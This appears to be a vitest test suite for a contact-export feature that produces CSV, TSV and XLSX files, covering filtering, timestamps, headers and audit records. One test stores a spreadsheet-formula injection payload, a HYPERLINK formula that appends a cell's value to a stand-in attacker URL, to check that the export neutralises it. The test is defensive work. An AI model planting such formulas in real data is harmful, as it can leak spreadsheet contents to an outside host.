import { randomUUID } from "node:crypto";
import { text } from "node:stream/consumers";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { fromBufferPromise } from "yauzl";
import { getPool } from "@/lib/database/pool";
import { columnKeys, defaultColumns } from "@/lib/export/columns";
import { type Sort, sorts } from "@/lib/filter/filter";
import { parseFilter } from "@/lib/filter/url";
import { listContacts } from "@/lib/list/queries";
import { viewerIn } from "../../viewer";
import { makeUglyContacts, storeContacts } from "../list/inbox-rows";
import { addPerson, ask, countOpen, listRecords, owner, readAnswer } from "./export-world";

const zone = "Europe/Berlin";
const contacts = makeUglyContacts(600);

beforeAll(async () => {
  await owner.query("update desk_settings set name = 'Nordlicht: Desk', time_zone = $1", [zone]);
  await storeContacts(contacts);
});
afterAll(() => owner.end());
afterEach(() => expect.poll(countOpen).toBe(0));

async function listIds(query: string): Promise<string[]> {
  const { filter } = parseFilter(new URLSearchParams(query));
  const ids: string[] = [];
  for (let after: string | null | undefined; after !== null; ) {
    const page = await listContacts(filter, viewerIn(zone), { after });
    ids.push(...page.rows.map(({ id }) => id));
    after = page.next;
  }
  return ids;
}

describe("a file", () => {
  test.each([...sorts])("sorted by %s holds the contacts of the list in its order", async (sort: Sort) => {
    const { rows } = await readAnswer(await ask(`sort=${sort}&columns=id`));
    expect(rows.map(({ id }) => id)).toEqual(await listIds(`sort=${sort}`));
    expect(rows).toHaveLength(contacts.length);
  });

  test.each([
    "status=new",
    "-type=pdf&sort=name",
    "q=kubernetes",
    "q=mara&sort=best",
    "from=2026-10-25&to=2026-11-21",
    "insights=missing",
  ])("of %s holds exactly the contacts of the list, as many as its header says", async (query) => {
    const answer = await ask(`${query}&columns=id,name`);
    const { rows } = await readAnswer(answer);
    expect(rows.map(({ id }) => id)).toEqual(await listIds(query));
    expect(answer.headers.get("x-contact-count")).toBe(String(rows.length));
  });

  test("begins with a byte-order mark, ends its lines with CRLF, and has every column but the raw JSON", async () => {
    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await (await ask("status=spam")).arrayBuffer());
    expect(csv.startsWith(`\uFEFF${defaultColumns.join()}\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv).not.toContain("\0");
  });

  test("has the columns that are asked for, in that order, and no more", async () => {
    const { header } = await readAnswer(await ask("columns=email,timestamp,document_insights"));
    expect(header).toEqual(["email", "timestamp", "document_insights"]);
  });

  test("gives back every stored text exactly", async () => {
    const { rows } = await readAnswer(await ask("columns=id,name,email,company,service,message,status,source,page"));
    const stored = new Map(contacts.map((contact) => [contact.id, contact]));
    for (const { id = "", ...cells } of rows) {
      const { name, email, company, service, message, status, source, page } = stored.get(id) ?? {};
      const texts = { name, email, company, service, message, status, source, page };
      expect(cells).toEqual(Object.fromEntries(Object.entries(texts).map(([key, text]) => [key, text ?? ""])));
    }
  });

  test("without a single contact is its first line, and says 0", async () => {
    const answer = await ask("q=nobody-ever-wrote-this");
    expect(answer.headers.get("x-contact-count")).toBe("0");
    expect((await readAnswer(answer)).rows).toEqual([]);
  });

  test("is offered under the desk's name and day, kept nowhere and taken for nothing else", async () => {
    const { headers, body } = await ask("");
    const day = new Intl.DateTimeFormat("sv-SE", { timeZone: zone }).format();
    expect(headers.get("content-disposition")).toContain(`filename="Nordlicht_ Desk contacts ${day}.csv"`);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(headers.get("cache-control")).toContain("no-store");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    await body?.cancel();
  });
});

describe("a file of another kind", () => {
  test.each([
    ["semicolon", ";", "csv", "text/csv; charset=utf-8; header=present"],
    ["tab", "\t", "tsv", "text/tab-separated-values; charset=utf-8"],
  ] as const)("with a %s holds the same cells, split there", async (format, delimiter, ending, type) => {
    const commas = await readAnswer(await ask("status=new&columns=id,name,message"));
    const answer = await ask(`status=new&columns=id,name,message&format=${format}`);
    expect(answer.headers.get("content-type")).toBe(type);
    expect(answer.headers.get("content-disposition")).toMatch(new RegExp(`\\.${ending}"`));
    expect(commas.rows.length).toBeGreaterThan(10);
    expect(await readAnswer(answer, delimiter)).toEqual(commas);
  });

  test("is a workbook with as many lines as contacts, and its headers say so", async () => {
    const answer = await ask("status=new&columns=id,timestamp,documents,message&format=xlsx");
    const count = Number(answer.headers.get("x-contact-count"));
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      "content-disposition": expect.stringMatching(/\.xlsx"/),
      "accept-ranges": "none",
      "x-content-type-options": "nosniff",
    });
    const archive = await fromBufferPromise(Buffer.from(await answer.arrayBuffer()));
    let sheet = "";
    for await (const entry of archive.eachEntry()) {
      if (entry.fileName.includes("sheet1")) sheet = await text(await archive.openReadStreamPromise(entry));
    }
    expect(count).toBeGreaterThan(10);
    expect(sheet.match(/<row>/g)).toHaveLength(count + 1);
    expect(sheet).toMatch(/<c r="B\d+" s="2"><v>\d+\.\d{11}<\/v><\/c>/);
  });
});

describe("a contact in a file", () => {
  async function exportOne(columns: Record<string, unknown>, asked: string): Promise<Record<string, string>> {
    const id = randomUUID();
    const given = { id, name: "Mara", email: "m@x.example", message: "Hi", timestamp: "2026-07-01", ...columns };
    const names = Object.keys(given);
    await owner.query(
      `insert into contact_submissions (${names.map((name) => `"${name}"`).join()}) values (${names.map((_, at) => `$${at + 1}`).join()})`,
      Object.values(given),
    );
    try {
      const service = columns.service === undefined ? "" : `service=${columns.service}&`;
      const { rows } = await readAnswer(await ask(`${service}columns=id,${asked}`));
      const { id: _id, ...cells } = rows.find((row) => row.id === id) ?? {};
      return cells;
    } finally {
      await owner.query("delete from contact_submissions where id = $1", [id]);
    }
  }

  test.each([
    ["2026-07-01T10:00:00.5Z", "2026-07-01T12:00:00.500000+02:00"],
    ["2026-10-25T00:59:59.999999Z", "2026-10-25T02:59:59.999999+02:00"],
    ["2026-10-25T01:00:00Z", "2026-10-25T02:00:00.000000+01:00"],
    ["1850-01-01T00:00:00Z", "1850-01-01T00:00:00.000000+00:00"],
    ["infinity", "infinity"],
  ])("sent at %s says %s", async (timestamp, printed) => {
    expect(await exportOne({ timestamp }, "timestamp")).toEqual({ timestamp: printed });
  });

  test("has its insights as columns of their own, and the JSON where that is asked for", async () => {
    const document_insights = JSON.stringify({
      total_documents: 12,
      document_types: ["pdf", "docx", "pdf"],
      content_analysis: {
        has_business_content: false,
        confidence_level: "low",
        primary_language: "de",
        complexity_score: 0.25,
      },
    });
    const cells = await exportOne(
      { document_insights },
      "types,language,confidence,business,documents,complexity,insights,document_insights",
    );
    expect(cells).toMatchObject({
      types: "docx; pdf",
      language: "de",
      confidence: "low",
      business: "false",
      documents: "12",
      complexity: "0.25",
      insights: "",
    });
    expect(JSON.parse(cells.document_insights ?? "")).toEqual(JSON.parse(document_insights));
  });

  test.each([
    [null, "missing"],
    ['{"has_business_content":null}', "missing"],
    ["5", "malformed"],
    ["[]", "malformed"],
    ['{"total_documents":"five","content_analysis":{"complexity_score":1e400}}', "malformed"],
  ])("with the insights %s has empty cells, and is said to be %s", async (document_insights, insights) => {
    const cells = await exportOne(
      { document_insights },
      "types,language,confidence,business,documents,complexity,insights",
    );
    const empty = { types: "", language: "", confidence: "", business: "", documents: "", complexity: "" };
    expect(cells).toEqual({ ...empty, insights });
  });

  test("whose name is a formula is text to a spreadsheet, and the same name again to whoever reads it back", async () => {
    const name = '=HYPERLINK("https://evil.example?"&A1,"open")';
    expect(await exportOne({ name }, "name")).toEqual({ name });
  });

  test("with everything a contact can have fills every column there is", async () => {
    const cells = await exportOne(
      {
        assignee_id: await addPerson(),
        snoozed_until: "2026-07-09T08:00:00Z",
        spam_reason: "advertising",
        duplicate_of: "contact_1",
        first_contacted_at: "2026-07-02T00:00:00Z",
        last_updated: "2026-07-03T00:00:00Z",
        user_agent: "Firefox",
        page_url: "https://x.example/",
        budget: "10k",
        company: "Nordlicht",
        service: "Everything",
        document_insights:
          '{"total_documents":1,"document_types":[5,"pdf"],"content_analysis":{"has_business_content":true,"confidence_level":"high","primary_language":"en","complexity_score":1}}',
      },
      columnKeys.slice(1).join(),
    );
    expect(Object.entries(cells).filter(([, text]) => text === "")).toEqual([]);
    expect(Object.keys(cells)).toHaveLength(columnKeys.length - 1);
  });
});

describe("what is written down", () => {
  test("is who asked for what, how many there were and that all were handed over", async () => {
    const staffId = await addPerson();
    const { rows } = await readAnswer(await ask("status=new&columns=name,email", { staffId }));
    await expect
      .poll(() => listRecords(staffId))
      .toEqual([
        {
          filter: "status=new",
          columns: ["name", "email"],
          outcome: "finished",
          matching: rows.length,
          written: rows.length,
          ended: true,
        },
      ]);
  });

  test("is nothing where the request is refused, or only its headers are asked for", async () => {
    const staffId = await addPerson();
    expect((await ask("statsu=new", { staffId })).status).toBe(400);
    const head = await ask("status=new", { staffId, withBody: false });
    expect([head.status, head.body]).toEqual([200, null]);
    expect(await listRecords(staffId)).toEqual([]);
  });

  test("cannot be taken back or changed by the application", async () => {
    for (const sql of ["delete from contact_exports", "update contact_exports set filter = ''"]) {
      await expect(getPool().query(sql)).rejects.toMatchObject({ code: "42501" });
    }
  });
});
